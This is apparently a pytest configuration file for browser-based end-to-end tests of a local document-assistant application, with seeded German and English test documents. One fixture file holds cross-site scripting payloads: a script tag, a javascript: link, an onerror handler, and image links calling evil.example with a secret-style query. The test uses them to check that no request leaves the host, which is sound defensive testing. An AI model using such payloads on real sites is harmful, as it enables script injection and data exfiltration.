"""The real application in a process of its own, and a real Chromium in front of it."""

import os
import shutil
import socket
import subprocess
import sys
import time
import urllib.request
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, expect, sync_playwright

from tests.library.conftest import PrintedLine, pdf_bytes

ROOT = Path(__file__).resolve().parents[2]
# What app.py does, with the documents of the test instead of the knowledge that ships.
START = "import os, sys, pathlib, app; app.run(app.read_settings(os.environ), [pathlib.Path(sys.argv[1])])"
PATIENCE_MS = 60_000
expect.set_options(timeout=30_000)

DOCUMENTS = {
    "pumpen/lessons/betriebsrat.md": """---
title: Betriebsrat vor der ersten Vorführung
date: 2024-12-03
---

# Betriebsrat vor der ersten Vorführung

## Situation

Der Betriebsrat verlangte die Einstellung der Tests. Der Pilot begann 21 Wochen später als geplant.

## Lehre

Maschinendaten werden zu Personendaten, sobald jemand einen Alarm quittiert.

## Empfehlung

- Für eine Betriebsvereinbarung sechs Monate einplanen.
""",
    "support/lessons/model-update.md": """---
title: Silent model updates
date: 2026-02-24
---

# Silent model updates

## Situation

On 13 January 2026 the provider replaced the version behind the model without telling the project.
The refusal rate of the assistant rose from 9% to 23% after the provider replaced the model version.
The project noticed the change of the model version on 20 January because the advisers complained.

## Recommendation

- Agree on pinned model versions for at least six months before signing the contract.
- Run a regression test every night and raise an alarm when the refusal rate of the model changes.
""",
    "drehofen/notes/retro.md": """---
title: Retrospektive Drehofen
date: 2025-03-10
---

# Retrospektive Drehofen

Die Thermoelemente lieferten falsche Zeitstempel. Wir hätten die Uhren früher abgleichen sollen.

Beim nächsten Mal gleichen wir die Uhren der Thermoelemente vor der ersten Messung ab.
""",
    "fremd/notes/boese.txt": """Lieferantenbrief <script>document.title='verletzt'</script>

Der Lieferant Grauwacke schreibt ![Logo](http://evil.example/?q=geheim) und [Angebot](javascript:alert(1)).
Der Lieferant Grauwacke verlangt <img src="http://evil.example/x.png" onerror="document.title='verletzt'"> 4.000 EUR.
""",
}

PRINTED: dict[str, list[list[PrintedLine]]] = {
    "kran/notes/abnahme.pdf": [
        [(72, 780, 18, "Abnahme der Kransteuerung"), (72, 740, 11, "Dieses Blatt nennt die Beteiligten der Abnahme.")],
        [
            (72, 780, 16, "Befund"),
            (72, 740, 11, "Die Kransteuerung wurde bei Nacht geprüft, und der Befund war eindeutig."),
            (72, 710, 11, "Die Notabschaltung der Kransteuerung reagierte erst nach 4,5 Sekunden, weil der Sen-"),
            (72, 696, 11, "sor am Ausleger falsch verkabelt war."),
            (72, 660, 11, "Der Lieferant tauschte den Sensor am folgenden Tag."),
        ],
    ],
}


def chromium() -> str | None:
    """The system's Chromium; None leaves the choice to Playwright."""
    names = ("chromium", "chromium-browser", "google-chrome")
    return next((path for name in names if (path := shutil.which(name))), None)


@pytest.fixture(scope="session")
def address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """Address of the running application, its models loaded and its documents indexed."""
    folder = tmp_path_factory.mktemp("documents")
    for name, text in DOCUMENTS.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    for name, pages in PRINTED.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(pdf_bytes(pages, title="Abnahme der Kransteuerung"))
    data = tmp_path_factory.mktemp("data")
    log = tmp_path_factory.mktemp("log") / "application.log"
    with running([START, str(folder)], {"ASSISTANT_DATA_DIR": str(data)}, log) as url:
        yield url


@contextmanager
def running(command: Sequence[str], settings: Mapping[str, str], log: Path) -> Iterator[str]:
    """The address of an application of its own, a Python program with its arguments; ended afterwards."""
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        url = f"http://127.0.0.1:{free.getsockname()[1]}"
    environment = os.environ | settings | {"ASSISTANT_PORT": url.rpartition(":")[2]}
    with log.open("w", encoding="utf-8") as output:
        process = subprocess.Popen(
            [sys.executable, "-c", *command], cwd=ROOT, env=environment, stdout=output, stderr=subprocess.STDOUT
        )
    try:
        _wait(f"{url}/", process, log)
        yield url
    finally:
        process.terminate()
        process.wait(timeout=30)


def _wait(url: str, process: subprocess.Popen[bytes], log: Path) -> None:
    deadline = time.monotonic() + 90
    while time.monotonic() < deadline:
        assert process.poll() is None, log.read_text(encoding="utf-8")
        try:
            urllib.request.urlopen(url, timeout=5).close()
            return
        except OSError:  # not listening yet
            time.sleep(0.2)
    raise AssertionError(log.read_text(encoding="utf-8"))


@pytest.fixture(scope="session")
def browser() -> Iterator[Browser]:
    """A Chromium without window."""
    with sync_playwright() as playwright:
        path = chromium()
        if path is None and not Path(playwright.chromium.executable_path).exists() and "CI" not in os.environ:
            pytest.skip("no Chromium on this machine: apt install chromium")
        browser = playwright.chromium.launch(executable_path=path, args=["--no-sandbox"])
        yield browser
        browser.close()


Open = Callable[..., Page]


@pytest.fixture
def open_page(browser: Browser, address: str) -> Iterator[Open]:
    """Opens the page in a fresh browser profile; afterwards no request may have left for another host."""
    contexts, foreign, mistakes = [], [], []

    def note(url: str) -> None:
        if urlsplit(url).scheme not in ("data", "blob") and not url.startswith(address):
            foreign.append(url)

    def opened(**options: object) -> Page:
        context = browser.new_context(**{"locale": "de-DE", "viewport": {"width": 1280, "height": 800}} | options)
        contexts.append(context)
        page = context.new_page()
        page.set_default_timeout(PATIENCE_MS)
        page.on("request", lambda request: note(request.url))
        page.on("pageerror", lambda error: mistakes.append(str(error)))
        page.on("console", lambda m: mistakes.append(m.text) if "Content Security Policy" in m.text else None)
        page.goto(address)
        expect(page.locator("#question textarea")).to_be_visible(timeout=PATIENCE_MS)
        # The language is set by the first event; before it the page may still be worded in the other one.
        english = str(options.get("locale", "de")).startswith("en")
        expect(page.locator("html")).to_have_attribute("lang", "en" if english else "de", timeout=PATIENCE_MS)
        # What is typed and opened before the page's first words have come may be drawn over by them.
        expect(page.locator("[data-opened]")).to_be_attached(timeout=PATIENCE_MS)
        page.wait_for_timeout(200)
        return page

    yield opened
    for context in contexts:
        context.close()
    assert (foreign, mistakes) == ([], [])


@pytest.fixture
def page(open_page: Open) -> Page:
    """The page in German, everything loaded."""
    page = open_page()
    expect(page.locator(".status li.ready")).to_have_count(3, timeout=PATIENCE_MS)
    return page
